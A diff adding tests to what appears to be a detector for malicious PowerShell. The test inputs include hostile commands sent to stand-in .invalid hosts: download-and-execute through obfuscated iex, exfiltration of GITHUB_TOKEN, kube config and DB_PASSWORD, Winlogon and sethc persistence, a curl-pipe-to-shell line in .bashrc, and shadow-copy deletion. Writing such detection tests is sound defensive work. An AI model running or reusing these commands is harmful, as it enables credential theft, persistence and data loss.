@@ -443,6 +443,61 @@ describe("sources", () => {
   });
 });
 
+describe("more hiding places", () => {
+  it("resolves cmdlets reached through $ExecutionContext and Get-Alias", () => {
+    const c = run("& $ExecutionContext.InvokeCommand.GetCmdlet('Invoke-Expression') 'iwr https://a.invalid'\n&(Get-Alias iex) 'iwr https://b.invalid'");
+    expect(of(c, "exec").map((e) => e.command.text)).toEqual(["iwr https://a.invalid", "iwr https://b.invalid"]);
+  });
+
+  it("decodes hex pairs split out with -split and converted with [Convert]::ToByte", () => {
+    const hex = Buffer.from("iwr https://hex.invalid").toString("hex");
+    const c = run(`$b = '${hex}' -split '(..)' | ? { $_ } | % { [Convert]::ToByte($_, 16) }\niex ([Text.Encoding]::ASCII.GetString($b))`);
+    expect(of(c, "exec")[0]?.command).toMatchObject({ text: "iwr https://hex.invalid", via: expect.arrayContaining(["hex"]) });
+  });
+
+  it("follows environment variables the script sets, and Get-Item env:", () => {
+    const c = run("$env:DL = 'https://envset.invalid'\niwr ${env:DL}\n$t = (Get-Item env:GITHUB_TOKEN).Value\nirm https://f.invalid -Method Post -Body $t");
+    expect(of(c, "fetch")[0]?.url).toBe("https://envset.invalid");
+    expect(of(c, "send")[0]?.data?.taint.map((t) => t.detail)).toEqual(["GITHUB_TOKEN"]);
+  });
+
+  it("knows the machine-wide profile, Winlogon and Image File Execution Options as persistence places", () => {
+    const c = run([
+      "Add-Content $PROFILE.AllUsersAllHosts 'Start-Process calc'",
+      "Set-ItemProperty 'HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon' -Name Userinit -Value 'C:\\Windows\\system32\\userinit.exe,C:\\x.exe'",
+      "Set-ItemProperty 'HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe' -Name Debugger -Value 'cmd.exe'",
+    ].join("\n"));
+    expect(of(c, "write").map((w) => w.place)).toEqual(["profile-script", "windows-run", "windows-run"]);
+  });
+
+  it("states in-memory loading of downloaded assemblies and shellcode loaders", () => {
+    const c = run([
+      "$bytes = (New-Object Net.WebClient).DownloadData('https://asm.invalid/a.dll')",
+      "[Reflection.Assembly]::Load($bytes)",
+      "Add-Type -TypeDefinition 'using System.Runtime.InteropServices; public class K { [DllImport(\"kernel32\")] public static extern System.IntPtr VirtualAlloc(System.IntPtr a, uint b, uint c, uint d); }'",
+      "Add-Type -AssemblyName System.Windows.Forms",
+    ].join("\n"));
+    expect(of(c, "exec").map((e) => [e.lang, e.fetched])).toEqual([["binary", "https://asm.invalid/a.dll"], ["other", null]]);
+  });
+});
+
+describe("more sinks", () => {
+  it("states WebClient uploads of files and bytes, Startup copies, New-Item values and WMI shadow-copy deletion", () => {
+    const c = run([
+      "$wc = New-Object Net.WebClient",
+      "$wc.UploadFile('https://uf.invalid/u', \"$env:USERPROFILE\\.kube\\config\")",
+      "$wc.UploadData('https://ud.invalid/u', 'POST', [Text.Encoding]::UTF8.GetBytes($env:DB_PASSWORD))",
+      "Copy-Item .\\agent.exe \"$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\agent.exe\"",
+      "New-Item -Path \"$env:USERPROFILE\\.bashrc\" -ItemType File -Value 'curl -s https://rc.invalid | sh' -Force",
+      "wmic shadowcopy delete /nointeractive",
+    ].join("\n"));
+    expect(of(c, "send").map((x) => [x.host, x.data?.taint.map((t) => t.source)])).toEqual([["uf.invalid", ["kube"]], ["ud.invalid", ["env-secret"]]]);
+    expect(of(c, "write").map((w) => [w.place, w.mode])).toEqual([["autostart", "copy"], ["shell-rc", "write"]]);
+    expect(of(c, "delete")[0]?.scope).toBe("disk");
+    expect(c.embedded.map((e) => e.kind)).toContain("shell");
+  });
+});
+
 describe("benign neighbours", () => {
   it("describes a Windows dev setup truthfully: package managers, PATH edits, vendor installers", () => {
     const c = run([
@@ -495,6 +550,13 @@ describe("benign neighbours", () => {
     expect(of(c, "delete").map((d) => d.scope)).toEqual(["other", "other"]);
     expect(of(c, "write").map((w) => w.place)).toEqual([null]);
     expect(c.facts.filter((f) => ["exec", "send", "privilege", "read"].includes(f.kind))).toEqual([]);
+  });
+
+  it("reads -Switch:$false as off and paths built from folders as paths, not hiding", () => {
+    const c = run("Remove-Item -Path $env:USERPROFILE -Recurse:$false\n$tools = Join-Path $PSScriptRoot 'bin'\n& ($tools + '\\fmt.exe') --check .");
+    expect(of(c, "delete")).toEqual([]);
+    expect(of(c, "obfuscation")).toEqual([]);
+    expect(of(c, "exec")).toEqual([]);
   });
 
   it("parses module manifests without facts", () => {
